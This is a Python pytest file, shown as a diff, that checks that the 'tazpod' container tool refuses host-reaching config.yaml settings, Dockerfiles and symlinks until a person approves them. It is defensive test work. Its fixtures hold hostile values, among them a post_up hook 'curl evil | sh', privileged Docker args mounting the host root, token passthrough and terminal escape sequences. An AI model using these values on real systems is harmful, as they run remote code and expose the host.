@@ -1,0 +1,399 @@
+"""What a config.yaml may have of the host: nothing that its person has not approved."""
+
+from __future__ import annotations
+
+import json
+import os
+import termios
+from pathlib import Path
+from typing import Any
+
+import enginelib
+import pytest
+from conftest import approve, replace, run_cli, terminal, write_stub
+from enginelib import PASSPHRASE, Place
+from test_config import KEYS
+
+import tazpod
+from tazpod import Config
+
+place, lab, template = enginelib.place, enginelib.lab, enginelib.template
+
+PROJECT = Path("/srv/blue")
+DEFAULT = Config(PROJECT, "blue-lab")
+FREE = ("vault_size", "vault_keep", "vault_retention", "vault_autolock", "sync_interval", "push_on_exit")
+HOSTILE = """\
+docker: {args: [--privileged, -v, "/:/host"]}
+env: {GITHUB_TOKEN: }
+features: {ssh_agent: true}
+hooks: {post_up: "curl evil | sh"}
+build: {context: ../private}
+"""
+ASKED = ["build.context", "features.ssh_agent", "docker.args", "env", "hooks.post_up"]
+
+
+# -- the decision
+
+
+def names(config: Config, approved: dict[str, Any]) -> list[str]:
+    return [change.name for change in tazpod.changes_between(config, approved)]
+
+
+def test_the_defaults_need_no_approval():
+    assert names(DEFAULT, {}) == []
+
+
+@pytest.mark.parametrize("text, field, value", KEYS)
+def test_every_other_value_does_unless_it_stays_with_the_vault(text, field, value):
+    config = tazpod.parse_config(text, PROJECT)[0]
+    setting = next(name for name, key in tazpod.KEYS.items() if key.field == field)
+    differs = getattr(config, field) != getattr(DEFAULT, field)
+    assert names(config, {}) == ([setting] if differs and field not in FREE else [])
+    assert names(config, tazpod.settings_of(config)) == []
+    if differs and field not in FREE:  # nor is the way back to the default taken in silence
+        assert names(DEFAULT, tazpod.settings_of(config)) == [setting]
+
+
+def test_a_new_key_needs_approval_without_being_named_anywhere():
+    free = {tazpod.KEYS[name].field for name in tazpod.NEEDS_NO_APPROVAL}
+    assert free == set(FREE)
+
+
+def test_a_setting_that_an_older_tool_did_not_know_had_its_default():
+    approved = tazpod.settings_of(DEFAULT)
+    del approved["docker.args"]
+    assert names(DEFAULT, approved) == []
+    assert names(replace(DEFAULT, docker_args=("--privileged",)), approved) == ["docker.args"]
+
+
+def test_both_values_are_shown_and_none_can_write_to_the_terminal():
+    config = replace(DEFAULT, post_up="a\x1b[2J\nb\u202e", context="../private", env=(("A", None),))
+    shown = {name: (old, new) for name, old, new in tazpod.changes_between(config, {})}
+    assert shown == {
+        "build.context": ('"."', '"../private" (outside the project)'),
+        "env": ("{}", '{"A": null}'),
+        "hooks.post_up": ('""', r'"a\u001b[2J\nb\u202e"'),
+    }
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "env: {TOKEN: zebra}",
+        "env: {TOKEN: 'zebra''s', A: b}",
+        "docker: {args: [-e, TOKEN=zebra]}",
+        "docker: {args: [--env, TOKEN=zebra, --env=B=zebra, -eC=zebra]}",
+        "env:\n  TOKEN: |\n    two\n    zebra\n",
+    ],
+)
+def test_no_value_of_a_variable_is_kept_and_each_is_known_again(text, project):
+    approve(project, text)
+    request = tazpod.read_request(project)
+    kept = b"".join(path.read_bytes() for path in tazpod.state_folder().rglob("*") if path.is_file())
+    assert b"zebra" not in kept
+    assert request.config == tazpod.parse_config(text, project)[0]
+    assert request.changes == []
+    (project / tazpod.CONFIG_PATH).write_text(text.replace("zebra", "zebru"))
+    assert len(tazpod.read_request(project).changes) == 1
+
+
+@pytest.mark.parametrize(
+    "text", ["env: {A: x, B: x}", "env: {A: env, B: ''}", "docker: {args: [args, docker]}"]
+)
+def test_a_value_that_stands_in_the_text_twice_is_the_right_one(text, project):
+    approve(project, text)
+    request = tazpod.read_request(project)
+    assert request.kept and request.config == tazpod.parse_config(text, project)[0]
+
+
+def test_the_configs_that_version_0_5_0_kept_are_gone(project):
+    old = tazpod.private_folder(tazpod.state_folder() / "configs")
+    (old / "x.json").write_text("s3cret")
+    approve(project)
+    assert not old.exists()
+
+
+# -- the gate
+
+
+READ_ONLY = {"status", "config", "list", "history", "doctor", "completion", "trust"}
+ENDS = {"lock", "save", "down"}
+TYPED = {"run": ["run", "true"], "restore": ["restore", "x"], "completion": ["completion", "bash"]}
+
+
+@pytest.fixture
+def docker(stub_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    """A docker that keeps a record of each call, and has neither container nor image."""
+    calls = stub_path.parent / "calls"
+    calls.write_text("")
+    write_stub(
+        stub_path,
+        "docker",
+        f"""echo "$@" >> "{calls}"
+case $1 in
+inspect) echo "[]"; echo "Error: No such object: $2" >&2; echo "Error: No such object: $3" >&2; exit 1;;
+info) echo '{{"ServerVersion": "1"}}';;
+esac""",
+    )
+    monkeypatch.setenv("PATH", f"{stub_path}:{os.environ['PATH']}")
+    return calls
+
+
+@pytest.mark.parametrize("name", sorted(set(tazpod.all_words()) - READ_ONLY - ENDS - {"init", "env"}))
+@pytest.mark.parametrize("yes", [[], ["--yes"]])
+def test_no_word_acts_on_what_was_not_approved(name, yes, project, docker):
+    (project / tazpod.CONFIG_PATH).write_text(HOSTILE)
+    done = run_cli(*yes, *TYPED.get(name, [name]), env={**os.environ, "GITHUB_TOKEN": "s3cret"})
+    assert done.returncode == 2, done.stderr
+    *shown, error, hint = done.stderr.splitlines()
+    path = project / tazpod.CONFIG_PATH
+    assert error == f"tazpod: error: {path}: asks for what was not approved: {', '.join(ASKED)}"
+    assert hint == "hint: tazpod trust"
+    assert 'tazpod:   docker.args: [] -> ["--privileged", "-v", "/:/host"]' in shown
+    assert docker.read_text() == ""
+    assert tazpod.read_approval(project).settings["docker.args"] == []
+
+
+@pytest.mark.parametrize(
+    "words", [["history", "--remote"], ["verify", "--remote"], ["pull", "image"], ["ssh"]]
+)
+def test_nor_does_another_form_of_a_word(words, project, docker):
+    (project / tazpod.CONFIG_PATH).write_text(HOSTILE)
+    assert run_cli(*words).returncode == 2
+    assert docker.read_text() == ""
+
+
+@pytest.mark.parametrize("name", sorted(READ_ONLY | ENDS))
+def test_looking_and_ending_work_and_hand_nothing_over(name, project, docker):
+    (project / tazpod.CONFIG_PATH).write_text(HOSTILE)
+    done = run_cli(*TYPED.get(name, [name]), *(["--show"] if name == "trust" else []))
+    assert done.returncode in (0, 1, 4), done.stderr
+    assert "a fault in tazpod" not in done.stderr
+    calls = [line.split()[0] for line in docker.read_text().splitlines()]
+    assert set(calls) <= {"inspect", "info", "container"}
+    assert names(tazpod.read_request(project).config, tazpod.read_approval(project).settings) == ASKED
+
+
+def test_a_dry_run_shows_what_would_be_done_and_that_approval_comes_first(project, docker, monkeypatch):
+    monkeypatch.setenv("AWS_ACCESS_KEY_ID", "x")
+    (project / tazpod.CONFIG_PATH).write_text(HOSTILE)
+    done = run_cli("--dry-run", "up")
+    assert done.returncode == 0
+    assert "--privileged" in done.stdout and "AWS_ACCESS_KEY_ID" not in done.stdout
+    assert done.stderr.splitlines()[0].endswith("so this comes first: tazpod trust")
+    assert tazpod.read_approval(project).settings["docker.args"] == []
+
+
+def test_trust_shows_and_approves_and_then_the_words_act(project, docker):
+    (project / tazpod.CONFIG_PATH).write_text(HOSTILE)
+    for words in (["trust", "--show"], ["trust", "--show"], ["--dry-run", "trust"], ["trust"]):
+        done = run_cli(*words)
+        assert done.returncode == 0
+        assert [line.split(":")[0] for line in done.stdout.splitlines()] == ASKED
+    assert run_cli("trust", "--show").stdout == ""
+    (project.parent / "private").mkdir()
+    run_cli("build")
+    assert docker.read_text().splitlines()[-1] == "build -t tazzo/tazpod-ai:latest -f - ../private"
+
+
+@pytest.mark.parametrize("answer", ["y", "n", ""])
+def test_on_a_terminal_the_person_is_asked_and_only_their_yes_counts(answer, project, docker, monkeypatch):
+    approve(project, "image: a\n")
+    (project / tazpod.CONFIG_PATH).write_text("image: b\n")
+    flush = termios.tcflush
+    with terminal() as person:
+
+        def flushed(*words: int) -> None:
+            flush(*words)
+            person.type(f"{answer}\n")
+
+        monkeypatch.setattr(termios, "tcflush", flushed)
+        person.type("y\n")  # before the question: not an answer to it
+        code = tazpod.main(["--yes", "pull", "image"])
+        shown = person.shown()
+    assert 'image: "a" -> "b"' in shown and "Approve this? [y/N]" in shown
+    assert code == (0 if answer == "y" else 2)
+    assert tazpod.read_approval(project).settings["image"] == ("b" if answer == "y" else "a")
+
+
+def test_what_is_used_is_what_was_compared(project, monkeypatch):
+    """The file is changed right after it was read: neither the word nor the approval sees that."""
+    read = tazpod.config_text
+
+    def swapped(*words: Any) -> str:
+        text = read(*words)
+        (project / tazpod.CONFIG_PATH).write_text(HOSTILE)
+        return text
+
+    (project / tazpod.CONFIG_PATH).write_text("shell: /bin/zsh\n")
+    with monkeypatch.context() as patch:
+        patch.setattr(tazpod, "config_text", swapped)
+        assert tazpod.main(["trust"]) == 0
+        assert tazpod.read_approval(project).settings["shell"] == "/bin/zsh"
+        (project / tazpod.CONFIG_PATH).write_text("shell: /bin/zsh\n")
+        assert tazpod.the_project().docker_args == ()
+    assert names(tazpod.read_request(project).config, tazpod.read_approval(project).settings) != []
+
+
+@pytest.mark.parametrize("text", ["user: root\ncontainer_name: other\n", "user: [", "\0"])
+@pytest.mark.parametrize("name", ["lock", "save", "down"])
+def test_ending_goes_by_what_was_approved_last(name, text, project, docker):
+    approve(project, "user: dev\ncontainer_name: mine\n")
+    (project / tazpod.CONFIG_PATH).write_text(text)
+    run_cli(name)
+    assert docker.read_text().splitlines()[0] == "inspect mine tazzo/tazpod-ai:latest"
+    config = tazpod.the_project(tazpod.ENDS)
+    assert (config.user, config.container_name) == ("dev", "mine")
+
+
+def test_what_init_writes_needs_no_approval_and_what_was_there_does(tmp_path, monkeypatch):
+    for folder, text in (("new", None), ("clone", HOSTILE)):
+        project = tmp_path / folder
+        (project / ".tazpod").mkdir(parents=True)
+        if text:
+            (project / tazpod.CONFIG_PATH).write_text(text)
+        done = run_cli("init", "--image", "example.com/a:1", "--name", "my-box", cwd=project)
+        assert done.returncode == 0, done.stderr
+        monkeypatch.chdir(project)
+        assert [change.name for change in tazpod.read_request(project).changes] == (ASKED if text else [])
+
+
+def test_a_bare_init_needs_no_library_and_its_project_is_the_same_as_parsed(project):
+    assert tazpod.the_project() == tazpod.parse_config(tazpod.config_text(project), project)[0]
+
+
+def test_status_and_doctor_tell(project, docker):
+    (project / tazpod.CONFIG_PATH).write_text(HOSTILE)
+    facts = json.loads(run_cli("status", "--json").stdout)
+    assert (facts["config"], facts["next"]) == ({"unapproved": ASKED}, "tazpod trust")
+    checks = json.loads(run_cli("doctor", "--json").stdout)
+    (found,) = [item for item in checks if item["fix"] == "tazpod trust"]
+    assert found["level"] == "failure"
+
+
+# -- the Dockerfile, and what leads out of the project
+
+
+def test_a_dockerfile_that_was_not_approved_is_not_built(project, docker):
+    path = project / tazpod.DOCKERFILE_PATH
+    assert run_cli("build").returncode == 0
+    path.write_text("FROM evil\n")
+    done = run_cli("--yes", "build")
+    assert (done.returncode, len(docker.read_text().splitlines())) == (2, 1)
+    assert done.stderr.splitlines()[-1] == "hint: tazpod trust"
+    assert run_cli("trust").stdout.startswith(".tazpod/Dockerfile.ai: ")
+    assert run_cli("build").returncode == 0
+    path.write_text("FROM worse\n")
+    assert run_cli("build").returncode == 2
+
+
+def test_a_dockerfile_that_another_version_wrote_needs_no_approval(project, monkeypatch):
+    config = tazpod.the_project()
+    text = tazpod.approved_dockerfile(config)
+    monkeypatch.setattr(tazpod, "DOCKERFILE", "FROM another\n")
+    assert tazpod.approved_dockerfile(config) == text
+
+
+def test_docker_gets_the_text_that_was_approved(project, stub_path, monkeypatch):
+    monkeypatch.setenv("PATH", f"{stub_path}:{os.environ['PATH']}")
+    path = project / tazpod.DOCKERFILE_PATH
+    write_stub(stub_path, "docker", f"echo FROM evil > {path}; cat > {stub_path}/got")
+    assert run_cli("build").returncode == 0
+    assert (stub_path / "got").read_text() == tazpod.DOCKERFILE
+
+
+LEADS = {
+    "cache": (None, False),
+    "real": ("folder", False),
+    "inside": ("real", False),
+    "up and down": ("../project/real", False),
+    "out": ("../private", True),
+    "absolute": ("/etc", True),
+    "twice": ("out", True),
+    "itself": ("itself", False),
+    "to the folder above": ("..", True),
+}
+
+
+@pytest.mark.parametrize("name", LEADS)
+def test_a_link_in_the_project_leads_nobody_out(name, tmp_path):
+    project = tmp_path / "project"
+    for folder in (project / "real/deep", tmp_path / "private", tmp_path / "elsewhere"):
+        folder.mkdir(parents=True)
+    for link, (target, _) in LEADS.items():
+        if target not in (None, "folder"):
+            (project / link).symlink_to(target)
+    (tmp_path / "elsewhere/link").symlink_to(f"../project/{name}")
+    config, expected = Config(project, "x"), LEADS[name][1]
+    assert tazpod.leads_out(project, str(project / name)) is expected
+    assert tazpod.leads_out(project, str(project / name / "deep/er")) is expected
+    assert tazpod.leads_out(project, str(tmp_path / "elsewhere/link")) is expected
+    if expected:
+        with pytest.raises(tazpod.UsageError, match="leads out of the project"):
+            tazpod.mount_word(config, f"./{name}:/x")
+        with pytest.raises(tazpod.UsageError, match="leads out of the project"):
+            tazpod.approved_dockerfile(replace(config, context=name))
+
+
+def test_a_path_outside_is_ones_own_affair(tmp_path):
+    (tmp_path / "link").symlink_to("/etc")
+    assert not tazpod.leads_out(tmp_path / "project", str(tmp_path / "link"))
+    assert not tazpod.leads_out(tmp_path / "project", "/etc")
+
+
+# -- whose files
+
+
+@pytest.mark.skipif(os.geteuid() != 0, reason="needs root to give a file away")
+@pytest.mark.parametrize("given", [".tazpod", tazpod.CONFIG_PATH, tazpod.DOCKERFILE_PATH])
+def test_the_files_of_another_user_are_refused_with_both_names(given, project, docker):
+    os.chown(project / given, 1, -1)
+    done = run_cli("build")
+    assert done.returncode == 1
+    said = f"tazpod: error: {project / given}: belongs to daemon, and you are root"
+    assert said in done.stderr.splitlines()
+    assert docker.read_text() == ""
+    if given != tazpod.DOCKERFILE_PATH:
+        assert said in run_cli("down").stderr.splitlines()
+
+
+@pytest.mark.skipif(os.geteuid() != 0, reason="needs root to give a file away")
+def test_root_may_work_for_who_called_sudo_and_where_root_has_chosen_to(project, docker):
+    for path in (project / ".tazpod", project / tazpod.CONFIG_PATH, project / tazpod.DOCKERFILE_PATH):
+        os.chown(path, 1, -1)
+    assert run_cli("build").returncode == 1
+    assert run_cli("build", env={**os.environ, "SUDO_UID": "2"}).returncode == 1
+    assert run_cli("build", env={**os.environ, "SUDO_UID": "1"}).returncode == 0
+    assert run_cli("trust").returncode == 0
+    assert run_cli("build").returncode == 0
+    os.chown(project / tazpod.CONFIG_PATH, 2, -1)
+    assert run_cli("build").returncode == 1
+    assert run_cli("trust").returncode == 1
+
+
+def test_a_user_cannot_approve_the_files_of_another(project, monkeypatch, capfd):
+    uid = os.geteuid()
+    monkeypatch.setattr(os, "geteuid", lambda: uid + 4711)
+    monkeypatch.setenv("SUDO_UID", str(uid))
+    for words in (["trust"], ["up"], ["down"], ["lock"]):
+        assert tazpod.main(words) == 1
+        assert f"belongs to {tazpod.user_name(uid)}, and you are user {uid + 4711}" in capfd.readouterr().err
+
+
+# -- with a real engine
+
+
+@pytest.mark.engine
+def test_what_a_program_inside_writes_reaches_the_host_only_when_it_is_approved(lab: Place) -> None:
+    lab.ok("unlock", passphrase=PASSPHRASE)
+    lab.reads("echo new > ~/secrets/new; echo 'mounts: [/:/host]' >> /workspace/.tazpod/config.yaml")
+    assert lab.run("run", "true").returncode == 2
+    assert lab.run("--yes", "up", "--recreate").returncode == 2
+    assert lab.reads("ls /host 2> /dev/null || echo none") == "none"
+    assert "next: tazpod trust" in lab.run("status").stdout
+    lab.ok("down")
+    assert lab.run("up").returncode == 2
+    person = lab.terminal()
+    person.answers((r"Approve this\? \[y/N\] ", "n"))
+    assert person.ends() == 2
+    assert "No such" in lab.inside("true").stderr
